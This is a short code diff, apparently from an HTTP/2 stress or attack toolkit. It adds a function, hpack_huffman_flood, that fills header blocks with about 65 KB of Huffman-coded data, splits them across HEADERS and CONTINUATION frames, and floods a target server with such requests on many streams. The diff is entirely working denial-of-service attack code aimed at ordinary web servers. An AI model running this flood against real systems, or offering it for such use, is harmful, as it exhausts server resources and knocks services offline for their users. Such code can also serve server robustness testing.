@@ -225,6 +225,19 @@ def hpack_huffman(attacker: Attacker) -> None:
     _header_bomb(attacker, b"", b"\x00" + value)
 
 
+def hpack_huffman_flood(attacker: Attacker) -> None:
+    """Sends requests without a body whose header blocks have 65 KB of Huffman code, and reads the answers."""
+    value = frames.integer(1, 7) + b"x" + frames.integer(65_000, 7, 0x80) + bytes(65_000)
+    block = attacker.target.fields() + b"\x00" + value
+
+    def request(stream: int) -> bytes:
+        parts = [block[at : at + 16384] for at in range(0, len(block), 16384)]
+        kinds = [(HEADERS, END_STREAM), *[(CONTINUATION, 0)] * (len(parts) - 2), (CONTINUATION, END_HEADERS)]
+        return b"".join(frames.frame(*kind, stream, part) for kind, part in zip(kinds, parts, strict=True))
+
+    attacker.flood(map(request, _streams()), attacker.http2())
+
+
 def many_fields(attacker: Attacker) -> None:
     """Sends requests with 3,000 header fields each, all of which are empty."""
     _header_bomb(attacker, b"", frames.field(b"a", b"") * 3000)
